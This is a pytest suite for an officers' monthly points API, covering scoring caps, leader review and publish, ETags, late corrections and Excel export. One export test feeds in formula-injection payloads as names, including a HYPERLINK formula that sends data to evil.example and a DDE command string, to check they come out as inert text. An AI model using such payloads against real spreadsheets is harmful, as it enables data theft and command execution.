"""Monthly points through HTTP: rules applied with caps, leaders' review, ETags, late data, explain."""
from __future__ import annotations

from datetime import date, timedelta
from io import BytesIO

import pytest
from openpyxl import load_workbook

from backend.db import local_day, session
from backend.org.models import Role
from backend.outbox import deliver
from backend.supervision.points import operations

NOV = [date(2026, 11, d) for d in range(1, 31)]


def last_months_third() -> date:
    """A manual item's day must lie within the last year (Shanghai days): the 3rd of last month."""
    return (local_day().replace(day=1) - timedelta(days=1)).replace(day=3)


@pytest.fixture
def squad(make):
    return make.squad()


@pytest.fixture
def leader(make, squad):
    return make.officer(Role.squad_leader, squad=squad, wechat_userid="leader-1")


@pytest.fixture
def officer(make, squad):
    return make.officer(squad=squad, wechat_userid="officer-1", name="李明")


def sheet_of(client, make, viewer, officer, month="2026-11"):
    response = client.get("/api/points/monthly", query_string={"month": month, "officer_id": officer.id},
                          headers=make.headers(viewer))
    assert response.status_code == 200, response.json
    [row] = response.json
    detail = client.get(f"/api/points/monthly/{row['id']}", headers=make.headers(viewer))
    assert detail.status_code == 200
    return detail


def change(client, make, actor, sheet_response, action, **kw):
    headers = {**make.headers(actor), "If-Match": sheet_response.headers["ETag"]}
    return client.post(f"/api/points/monthly/{sheet_response.json['id']}/{action}", headers=headers, **kw)


def test_a_month_played_day_by_day_adds_capped_item_points_to_the_base(client, make, facts, run_daily, officer, leader):
    for day in NOV[:22]:
        facts.add(officer, day, "attendance")
    for day in NOV[:12]:
        facts.add(officer, day, "late")  # 12 × -1, capped at -10
    facts.add(officer, NOV[3], "patrol_km", "12.5")

    run_daily(*NOV[:10])
    sheet = sheet_of(client, make, leader, officer)
    assert sheet.json["total"] == "93.25"  # 100 + 10 × 0.2 - 10 × 1 + 12.5 × 0.1 after ten days
    run_daily(*NOV[10:])
    sheet = sheet_of(client, make, leader, officer)

    lines = {line["item"]: line for line in sheet.json["lines"]}
    assert (lines["attendance"]["quantity"], lines["attendance"]["points"]) == ("22.000", "4.40")
    assert (lines["late"]["raw_points"], lines["late"]["points"]) == ("-12.00", "-10.00")
    assert lines["patrol_km"]["points"] == "1.25"
    assert (sheet.json["base"], sheet.json["items_total"], sheet.json["total"]) == ("100.00", "-4.35", "95.65")
    assert sheet.json["state"] == "draft"


def test_explain_drills_a_score_down_to_the_daily_records(client, make, facts, run_daily, officer):
    facts.add(officer, NOV[0], "late", ref="11-01 班次迟到 7 分钟")
    facts.add(officer, NOV[4], "late", ref="11-05 班次迟到 12 分钟")
    run_daily(NOV[0], NOV[4])

    sheet = sheet_of(client, make, officer, officer)
    explained = client.get(f"/api/points/monthly/{sheet.json['id']}/explain", headers=make.headers(officer)).json
    assert explained["summary"] == "基础分 100.00；迟到 2 次 × -1.00 = -2.00；合计 98.00 分。"
    [late] = explained["lines"]
    assert [(d["day"], d["quantity"], d["source_ref"]) for d in late["days"]] == [
        ("2026-11-01", "1.000", "11-01 班次迟到 7 分钟"), ("2026-11-05", "1.000", "11-05 班次迟到 12 分钟")]


def test_an_item_over_its_cap_says_so_in_the_explanation(client, make, facts, run_daily, officer):
    for day in NOV[:12]:
        facts.add(officer, day, "late")
    run_daily(*NOV[:12])
    sheet = sheet_of(client, make, officer, officer)
    explained = client.get(f"/api/points/monthly/{sheet.json['id']}/explain", headers=make.headers(officer)).json
    assert explained["lines"][0]["capped"] is True
    assert "超过月封顶 10.00，计 -10.00" in explained["summary"]


def test_leader_adjusts_with_reason_and_etag(client, make, facts, run_daily, officer, leader):
    facts.add(officer, NOV[0], "attendance")
    run_daily(NOV[0])
    sheet = sheet_of(client, make, leader, officer)
    url = f"/api/points/monthly/{sheet.json['id']}/adjustments"

    missing = client.post(url, headers=make.headers(leader), json={"points": 2, "reason": "协助处置突发事件"})
    assert missing.status_code == 428
    no_reason = change(client, make, leader, sheet, "adjustments", json={"points": 2})
    assert no_reason.status_code == 422 and "reason" in no_reason.json["errors"]["json"]
    too_big = change(client, make, leader, sheet, "adjustments", json={"points": 11, "reason": "超出范围的调整"})
    assert too_big.status_code == 422 and too_big.json["error"] == "adjustment_out_of_range"

    done = change(client, make, leader, sheet, "adjustments", json={"points": "2.5", "reason": "协助处置突发事件"})
    assert done.status_code == 201
    assert (done.json["adjustments_total"], done.json["total"]) == ("2.50", "102.70")
    assert done.headers["ETag"] != sheet.headers["ETag"]

    stale = change(client, make, leader, sheet, "adjustments", json={"points": 1, "reason": "并发的第二次调整"})
    assert stale.status_code == 412
    assert sheet_of(client, make, officer, officer).json["total"] == "102.70"


def test_review_publish_lock_and_the_officer_is_told(client, make, facts, run_daily, officer, leader, fake_wechat):
    admin = make.officer(Role.district_admin, district=officer.district)
    facts.add(officer, NOV[0], "attendance")
    run_daily(NOV[0])
    sheet = sheet_of(client, make, leader, officer)

    unreviewed = change(client, make, leader, sheet, "publish")
    assert unreviewed.status_code == 409 and unreviewed.json["error"] == "not_reviewed"
    reviewed = change(client, make, leader, sheet, "review")
    assert reviewed.status_code == 200 and reviewed.json["state"] == "reviewed"
    assert change(client, make, leader, reviewed, "lock").status_code == 403
    published = change(client, make, leader, reviewed, "publish")
    assert published.status_code == 200 and published.json["state"] == "published"
    deliver()
    [card] = fake_wechat.messages_to("officer-1")
    assert card["textcard"]["title"] == "2026年11月积分已公布"
    assert "100.20" in card["textcard"]["description"]

    locked = change(client, make, admin, published, "lock")
    assert locked.status_code == 200 and locked.json["state"] == "locked"
    refused = change(client, make, leader, locked, "adjustments", json={"points": 1, "reason": "锁定后还想调整"})
    assert refused.status_code == 409 and refused.json["error"] == "month_locked"


def test_a_leader_cannot_change_their_own_sheet(client, make, facts, run_daily, leader):
    facts.add(leader, NOV[0], "attendance")
    run_daily(NOV[0])
    sheet = sheet_of(client, make, leader, leader)
    response = change(client, make, leader, sheet, "review")
    assert response.status_code == 403 and response.json["error"] == "own_sheet"


def test_late_data_recomputes_an_open_month_and_sends_it_back_to_review(
    client, make, facts, run_daily, officer, leader
):
    facts.add(officer, NOV[0], "attendance")
    run_daily(NOV[0])
    reviewed = change(client, make, leader, sheet_of(client, make, leader, officer), "review")
    assert reviewed.json["state"] == "reviewed"

    facts.add(officer, NOV[0], "late")  # an appeal decided late changes a day already built
    run_daily(NOV[0])
    sheet = sheet_of(client, make, leader, officer)
    assert (sheet.json["state"], sheet.json["total"]) == ("draft", "99.20")


def test_late_data_after_lock_becomes_a_correction_in_the_next_open_month(
        client, make, facts, run_daily, officer, leader, fake_wechat):
    admin = make.officer(Role.district_admin, district=officer.district)
    facts.add(officer, NOV[0], "attendance")
    run_daily(NOV[0])
    sheet = sheet_of(client, make, leader, officer)
    for actor, action in ((leader, "review"), (leader, "publish"), (admin, "lock")):
        sheet = change(client, make, actor, sheet, action)
    assert sheet.json["total"] == "100.20"

    facts.add(officer, NOV[2], "absence")
    run_daily(NOV[2])
    run_daily(NOV[2])  # the same late data seen twice is corrected once
    november = sheet_of(client, make, leader, officer)
    assert (november.json["state"], november.json["total"]) == ("locked", "100.20")
    december = sheet_of(client, make, leader, officer, "2026-12")
    [correction] = december.json["adjustments"]
    assert (correction["points"], correction["corrects_month"]) == ("-3.00", "2026-11")
    assert "2026年11月" in correction["reason"]
    assert (december.json["state"], december.json["total"]) == ("draft", "97.00")


def test_a_new_rule_version_applies_from_its_month_and_never_to_a_locked_month(
        client, make, facts, run_daily, officer, leader, fake_wechat):
    admin = make.officer(Role.district_admin, district=officer.district)
    facts.add(officer, NOV[0], "commendation")
    run_daily(NOV[0])
    sheet = sheet_of(client, make, leader, officer)
    for actor, action in ((leader, "review"), (leader, "publish"), (admin, "lock")):
        sheet = change(client, make, actor, sheet, action)

    for effective_from in ("2026-11-01", "2026-12-01"):
        response = client.post("/api/points/rules", headers=make.headers(admin), json={
            "item": "commendation", "category": "奖励", "points_per_unit": "3", "monthly_cap": "12",
            "effective_from": effective_from})
        assert response.status_code == 201
    facts.add(officer, date(2026, 12, 1), "commendation")
    run_daily(NOV[0], date(2026, 12, 1))

    assert sheet_of(client, make, leader, officer).json["total"] == "102.00"
    december = sheet_of(client, make, leader, officer, "2026-12")
    assert december.json["total"] == "103.00" and december.json["adjustments"] == []


def test_manual_items_by_leaders_count_at_once(client, make, officer, leader):
    day = last_months_third()
    response = client.post("/api/points/manual-items", headers=make.headers(leader), json={
        "officer_id": officer.id, "day": str(day), "item": "commendation", "quantity": 1,
        "note": "市容环境整治表彰"})
    assert response.status_code == 201
    daily = client.get("/api/points/daily", query_string={"officer_id": officer.id}, headers=make.headers(officer))
    assert [(row["day"], row["item"], row["source"]) for row in daily.json] == [
        (str(day), "commendation", "manual")]
    assert "市容环境整治表彰" in daily.json[0]["source_ref"]
    assert sheet_of(client, make, officer, officer, f"{day:%Y-%m}").json["total"] == "102.00"


@pytest.mark.parametrize("body, code", [
    ({"item": "late", "quantity": 1, "note": "不能手工登记"}, "not_a_manual_item"),
    ({"item": "commendation", "quantity": 0, "note": "数量为零"}, "validation_error"),
    ({"item": "commendation", "quantity": 1, "note": "日期不对", "day": "2026-13-01"}, "validation_error"),
])
def test_bad_manual_items_are_refused(client, make, officer, leader, body, code):
    response = client.post("/api/points/manual-items", headers=make.headers(leader),
                           json={"officer_id": officer.id, "day": str(last_months_third()), **body})
    assert response.status_code == 422 and response.json["error"] == code
    assert client.get("/api/points/manual-items", headers=make.headers(leader)).json == []


def test_officer_cannot_record_manual_items(client, make, officer):
    response = client.post("/api/points/manual-items", headers=make.headers(officer), json={
        "officer_id": officer.id, "day": "2026-11-03", "item": "commendation", "quantity": 1, "note": "给自己加分"})
    assert response.status_code == 403


def test_scope_officer_own_leader_squad_district_all(client, make, facts, run_daily, officer, leader, squad):
    other_squad = make.squad(squad.district)
    stranger = make.officer(squad=other_squad)
    other_leader = make.officer(Role.squad_leader, squad=other_squad)
    admin = make.officer(Role.district_admin, district=squad.district)
    for person in (officer, stranger):
        facts.add(person, NOV[0], "attendance")
    run_daily(NOV[0])

    def ids(viewer):
        rows = client.get("/api/points/monthly", query_string={"month": "2026-11"}, headers=make.headers(viewer)).json
        return {row["officer_id"] for row in rows}

    assert ids(officer) == {officer.id}
    assert ids(leader) == {officer.id, leader.id}
    assert ids(admin) >= {officer.id, leader.id, stranger.id, other_leader.id}
    mine = sheet_of(client, make, officer, officer).json["id"]
    assert client.get(f"/api/points/monthly/{mine}", headers=make.headers(other_leader)).status_code == 404
    assert client.get(f"/api/points/monthly/{mine}/explain", headers=make.headers(stranger)).status_code == 404


def test_ranking_and_excel_export_of_a_month(client, make, facts, run_daily, officer, leader, squad):
    second = make.officer(squad=squad, name="王芳")
    facts.add(second, NOV[0], "commendation")
    facts.add(officer, NOV[0], "late")
    run_daily(NOV[0])
    ranking = client.get("/api/points/monthly", query_string={"month": "2026-11", "squad_id": squad.id},
                         headers=make.headers(leader)).json
    assert [(row["officer_name"], row["total"]) for row in ranking] == [
        ("王芳", "102.00"), (leader.name, "100.00"), ("李明", "99.00")]

    export = client.get("/api/points/monthly/export", query_string={"month": "2026-11", "squad_id": squad.id},
                        headers=make.headers(leader))
    assert export.status_code == 200
    rows = list(load_workbook(BytesIO(export.data)).active.iter_rows(values_only=True))
    assert rows[0][:3] == ("排名", "工号", "姓名")
    assert [(row[0], row[2], row[7]) for row in rows[1:]] == [(1, "王芳", 102), (2, leader.name, 100), (3, "李明", 99)]


def test_excel_export_carries_formula_like_text_as_text(client, make, facts, run_daily, leader, squad):
    """A name or squad that starts like a formula (=, +, -, @, tab) opens in Excel as the text it is."""
    hostile = ['=HYPERLINK("http://evil.example/?x="&A1,"点此")', "+1+1", "-2+3", "@SUM(A1)", "\t=1+1"]
    squad.name = "=cmd|' /C calc'!A0"
    for name in hostile:
        facts.add(make.officer(squad=squad, name=name), NOV[0], "commendation")
    run_daily(NOV[0])
    export = client.get("/api/points/monthly/export", query_string={"month": "2026-11", "squad_id": squad.id},
                        headers=make.headers(leader))
    assert export.status_code == 200
    cells = [cell for row in load_workbook(BytesIO(export.data)).active.iter_rows() for cell in row]
    assert not [cell.value for cell in cells if cell.data_type == "f"]
    names = {cell.value for cell in cells if isinstance(cell.value, str)}
    assert {"'" + name for name in hostile} | {"'=cmd|' /C calc'!A0"} <= names


def test_rules_as_data_with_defaults_and_bad_versions_refused(client, make):
    admin = make.officer(Role.district_admin)
    rules = client.get("/api/points/rules", headers=make.headers(admin)).json
    late = [rule for rule in rules if rule["item"] == "late"]
    assert [(r["district_id"], r["points_per_unit"], r["monthly_cap"]) for r in late] == [(None, "-1.00", "10.00")]

    def create(**kw):
        body = {"item": "late", "category": "出勤纪律", "points_per_unit": "-2", "monthly_cap": "8",
                "effective_from": "2027-01-01", **kw}
        return client.post("/api/points/rules", headers=make.headers(admin), json=body)

    assert create(monthly_cap="-1").status_code == 422
    mid_month = create(effective_from="2027-01-15").json  # named by field, for the console to show beside it
    assert (mid_month["error"], mid_month["errors"]) == ("effective_from_not_month_start",
                                                         {"effective_from": ["须为某月 1 日。"]})
    assert create(item="no_such_item").status_code == 422
    assert create().status_code == 201
    overlapping = create(points_per_unit="-3")
    assert overlapping.status_code == 409 and overlapping.json["error"] == "rule_overlaps"
    assert list(overlapping.json["errors"]) == ["effective_from"]
    leader = make.officer(Role.squad_leader)
    assert client.post("/api/points/rules", headers=make.headers(leader), json={}).status_code == 403


def test_duty_shifts_become_daily_records(client, make, run_daily, officer):
    from datetime import datetime

    from backend.db import LOCAL_TZ

    worked = make.shift(officer, datetime(2026, 11, 2, 8, tzinfo=LOCAL_TZ), datetime(2026, 11, 2, 16, tzinfo=LOCAL_TZ))
    worked.attended_minutes = 470
    missed = make.shift(officer, datetime(2026, 11, 3, 8, tzinfo=LOCAL_TZ), datetime(2026, 11, 3, 16, tzinfo=LOCAL_TZ))
    missed.absent = True
    session.commit()
    run_daily(date(2026, 11, 2), date(2026, 11, 3))

    daily = client.get("/api/points/daily", query_string={"officer_id": officer.id}, headers=make.headers(officer)).json
    assert [(row["day"], row["item"], row["quantity"], row["source"]) for row in daily] == [
        ("2026-11-02", "attendance", "1.000", "duty"), ("2026-11-03", "absence", "1.000", "duty")]
    assert "到岗 470 分钟" in daily[0]["source_ref"]


def test_refreshing_a_month_twice_changes_nothing(make, facts, run_daily, officer):
    facts.add(officer, NOV[0], "attendance")
    run_daily(NOV[0])
    assert operations.refresh_month(date(2026, 11, 1), officer_ids=[officer.id]) == {
        "created": 0, "recomputed": 0, "corrected": 0, "unchanged": 1}


def test_the_month_scored_in_sql_matches_the_rule_to_the_cent(client, make, facts, run_daily, officer, leader):
    """Half cents round away from zero, caps bound both signs, a district's own rule beats the default."""
    from decimal import Decimal

    from backend.supervision.points.scoring import capped

    admin = make.officer(Role.district_admin, district=officer.district)
    assert client.post("/api/points/rules", headers=make.headers(admin), json={
        "item": "late", "category": "出勤纪律", "points_per_unit": "-0.35", "monthly_cap": "1",
        "effective_from": "2026-11-01"}).status_code == 201
    for item, quantities in {"exam_passed": ["0.005"], "exam_failed": ["0.005"], "patrol_km": ["0.125", "0.02"],
                             "training_hours": ["0.333", "0.334"], "resident_rating": ["-2.5", "-1.25"],
                             "late": ["1", "1", "1"], "attendance": ["1"] * 30}.items():
        for day, quantity in zip(NOV, quantities, strict=False):
            facts.add(officer, day, item, quantity)
    run_daily(*NOV)

    lines = {line["item"]: line for line in sheet_of(client, make, leader, officer).json["lines"]}
    expected = {"exam_passed": ("0.01", "0.01"), "exam_failed": ("-0.01", "-0.01"), "patrol_km": ("0.01", "0.01"),
                "training_hours": ("0.33", "0.33"), "resident_rating": ("-0.75", "-0.75"),
                "late": ("-1.05", "-1.00"), "attendance": ("6.00", "5.00")}
    assert {item: (line["raw_points"], line["points"]) for item, line in lines.items()} == expected
    for line in lines.values():  # the same as the per-officer scoring kept for locked months
        cap = None if line["monthly_cap"] is None else Decimal(line["monthly_cap"])
        raw, points = capped(Decimal(line["quantity"]), Decimal(line["points_per_unit"]), cap)
        assert (str(raw), str(points)) == (line["raw_points"], line["points"])


def test_a_leader_reviews_then_publishes_the_whole_squad_month_in_one_call_each(
        client, make, facts, run_daily, squad, officer, leader, fake_wechat):
    mate = make.officer(squad=squad, wechat_userid="officer-2", name="王芳")
    for person in (officer, mate, leader):
        facts.add(person, NOV[0], "attendance")
    run_daily(NOV[0])
    url = f"/api/points/squads/{squad.id}/monthly"

    reviewed = client.post(f"{url}/review", headers=make.headers(leader), json={"month": "2026-11"})
    assert reviewed.status_code == 200, reviewed.json
    assert (reviewed.json["done"], reviewed.json["skipped"]) == (2, 1)
    outcomes = {row["officer_id"]: (row["outcome"], row["error"], row["state"]) for row in reviewed.json["sheets"]}
    assert outcomes == {officer.id: ("done", None, "reviewed"), mate.id: ("done", None, "reviewed"),
                        leader.id: ("skipped", "own_sheet", "draft")}
    assert sheet_of(client, make, officer, officer).json["state"] == "reviewed"

    again = client.post(f"{url}/review", headers=make.headers(leader), json={"month": "2026-11"}).json
    assert {row["error"] for row in again["sheets"]} == {"not_draft", "own_sheet"} and again["done"] == 0

    published = client.post(f"{url}/publish", headers=make.headers(leader), json={"month": "2026-11"}).json
    assert published["done"] == 2
    assert {row["officer_id"]: row["state"] for row in published["sheets"]} == {
        officer.id: "published", mate.id: "published", leader.id: "draft"}
    deliver()
    assert [card["textcard"]["title"] for card in fake_wechat.messages_to("officer-2")] == ["2026年11月积分已公布"]

    other_leader = make.officer(Role.squad_leader, squad=make.squad(squad.district))
    assert client.post(f"{url}/publish", headers=make.headers(other_leader),
                       json={"month": "2026-11"}).status_code == 404
    assert client.post(f"{url}/review", headers=make.headers(officer), json={"month": "2026-11"}).status_code == 403
    assert client.post(f"{url}/review", headers=make.headers(leader), json={"month": "11/2026"}).status_code == 422


def test_published_months_lock_on_the_configured_day_of_the_next_month(
        client, make, facts, run_daily, squad, officer, leader, fake_wechat):
    from backend.supervision.points import jobs

    mate = make.officer(squad=squad)
    for person in (officer, mate):
        facts.add(person, NOV[0], "attendance")
    run_daily(NOV[0])
    url = f"/api/points/squads/{squad.id}/monthly"
    client.post(f"{url}/review", headers=make.headers(leader), json={"month": "2026-11"})
    client.post(f"{url}/publish", headers=make.headers(leader), json={"month": "2026-11"})
    seen = sheet_of(client, make, leader, officer)
    facts.add(mate, NOV[1], "late")
    run_daily(NOV[1])  # the mate's sheet changes and goes back to draft: not published, not locked

    jobs.lock_months(date(2026, 12, 9))  # POINTS_LOCK_DAY is the 10th
    session.commit()
    assert sheet_of(client, make, leader, officer).json["state"] == "published"
    jobs.lock_months(date(2026, 12, 10))
    session.commit()
    locked = sheet_of(client, make, leader, officer)
    assert (locked.json["state"], sheet_of(client, make, leader, mate).json["state"]) == ("locked", "draft")
    assert locked.headers["ETag"] != seen.headers["ETag"]
    refused = change(client, make, leader, locked, "adjustments", json={"points": 1, "reason": "锁定后还想调整"})
    assert refused.status_code == 409 and refused.json["error"] == "month_locked"


def test_a_drafts_etag_changes_when_only_its_lines_change(client, make, facts, run_daily, officer, leader):
    for day in NOV[:12]:
        facts.add(officer, day, "late")  # 12 × -1, capped at -10
    run_daily(*NOV[:12])
    seen = sheet_of(client, make, leader, officer)
    facts.add(officer, NOV[12], "late")
    run_daily(NOV[12])  # a 13th late day: the total stays at the cap, the line's quantity changes

    now = sheet_of(client, make, leader, officer)
    assert (seen.json["total"], now.json["total"]) == ("90.00", "90.00")
    assert [line["quantity"] for line in now.json["lines"]] == ["13.000"]
    assert now.headers["ETag"] != seen.headers["ETag"]
    assert change(client, make, leader, seen, "review").status_code == 412
    assert operations.refresh_month(date(2026, 11, 1), officer_ids=[officer.id])["unchanged"] == 1


def test_the_leader_reviews_the_lines_shown_and_a_draft_stores_none(client, make, facts, run_daily, officer, leader):
    from sqlalchemy import func, select

    from backend.supervision.points.models import MonthlyLine

    def stored_lines():
        return session.scalar(select(func.count()).select_from(MonthlyLine))

    admin = make.officer(Role.district_admin, district=officer.district)
    facts.add(officer, NOV[0], "attendance")
    facts.add(officer, NOV[0], "commendation")
    run_daily(NOV[0])
    draft = sheet_of(client, make, leader, officer)
    assert stored_lines() == 0

    reviewed = change(client, make, leader, draft, "review")
    assert reviewed.status_code == 200
    assert reviewed.json["lines"] == draft.json["lines"] and stored_lines() == 2
    explained = client.get(f"/api/points/monthly/{draft.json['id']}/explain", headers=make.headers(officer)).json
    assert [(line["item"], line["points"]) for line in explained["lines"]] == [
        ("attendance", "0.20"), ("commendation", "2.00")]

    # A new rule version for the month scores its open sheets at once: this one changes and goes back to draft.
    assert client.post("/api/points/rules", headers=make.headers(admin), json={
        "item": "commendation", "category": "奖励", "points_per_unit": "3", "monthly_cap": "12",
        "effective_from": "2026-11-01"}).status_code == 201
    again = sheet_of(client, make, leader, officer)
    assert (again.json["state"], again.json["total"]) == ("draft", "103.20") and stored_lines() == 0
    assert [(line["item"], line["rule_id"] is not None, line["points"]) for line in again.json["lines"]] == [
        ("attendance", True, "0.20"), ("commendation", True, "3.00")]
